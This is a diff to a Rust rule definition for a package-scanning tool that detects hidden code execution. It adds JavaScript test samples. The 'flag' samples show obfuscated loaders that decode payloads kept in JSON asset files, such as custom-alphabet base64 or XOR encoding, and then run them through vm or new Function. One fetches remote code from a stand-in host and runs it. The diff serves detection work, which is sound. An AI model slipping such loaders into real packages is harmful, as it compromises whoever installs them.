@@ -23,7 +23,8 @@ crate::declare_rule! {
     /// tracked without scopes. A wrapper named after an identifier-checked name runs nothing
     /// hidden. A data file the package does not ship (no data file the code names is in the
     /// package) is the user's: `medium`. Required JSON counts only
-    /// when it is the package's own `package.json`.
+    /// when it is the package's own `package.json`, or as the constant data a local decoding
+    /// function is handed (`unpack(require('./data/x.json').field)`).
     id: "hidden-code-run",
     category: Exec,
     severity: High,
@@ -34,8 +35,13 @@ crate::declare_rule! {
     flag: ["const fs = require('fs'); const cfg = JSON.parse(fs.readFileSync(__dirname + '/config.json', 'utf8')); new Function('require', cfg.init)(require)",
            "const u = 'https://h.example/s'; fetch(u).then((r) => r.text()).then((src) => { const f = Reflect.construct(Function, ['r', src]); f(require) })",
            "function d(s, k) { let o = ''; for (let i = 0; i < s.length; i++) o += String.fromCharCode(s.charCodeAt(i) ^ k.charCodeAt(i % k.length)); return o } const k = require('os').hostname(); eval(d('\\x01\\x02\\x03\\x04\\x05\\x06\\x07\\x08\\x09\\x0a\\x0b\\x0c\\x0d\\x0e\\x0f\\x10', k))",
-           "const { Worker } = require('worker_threads'); const p = require('./package.json'); new Worker(p.config.bootstrap, { eval: true })"],
-    pass: ["const ejs = (tpl) => new Function('o', 'return `' + tpl + '`'); module.exports = (file) => ejs(require('fs').readFileSync(file, 'utf8'))",
+           "const { Worker } = require('worker_threads'); const p = require('./package.json'); new Worker(p.config.bootstrap, { eval: true })",
+           "const T = 'QWERTYUIOPASDFGHJKLZXCVBNMqwertyuiopasdfghjklzxcvbnm0123456789+/'; const S = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/'; function unpack(s) { let o = ''; for (const c of s) o += S[T.indexOf(c)]; return Buffer.from(o, 'base64').toString() } const x = require('../data/rules.json').compact; require('vm').runInThisContext('(function (require) {' + unpack(x) + '})')(require)",
+           "const { map, kern } = require('../assets/glyphs.json'); function expand(s) { return s.split('').map((c) => String.fromCharCode(c.charCodeAt(0) ^ 23)).join('') } new Function('require', expand(kern))(require)",
+           "const { stage } = require('./assets/sprites.json'); require('vm').runInNewContext(Buffer.from(stage, 'base64').toString(), { require })"],
+    pass: ["const { logo } = require('./assets/brand.json'); const png = Buffer.from(logo, 'base64'); const add = new Function('a', 'b', 'return a + b'); module.exports = { png, add }",
+           "const ejs = (tpl) => new Function('o', 'return `' + tpl + '`'); module.exports = (file) => ejs(require('fs').readFileSync(file, 'utf8'))",
+           "function unpack(s) { return Buffer.from(s, 'base64').toString() } const rows = unpack(require('./data/table.json').rows).split('\\n'); const add = new Function('a', 'return a + 1')",
            "eval('console.log(1)'); fetch('https://h.example/x').then((r) => r.json()).then(render)",
            "const pkg = require('./package.json'); console.log(pkg.version); new Function('a', 'b', 'return a + b')",
            "module.exports = function compile(filename) { const src = require('fs').readFileSync(filename, 'utf8'); const m = new module.constructor(); m._compile(src, filename) }",
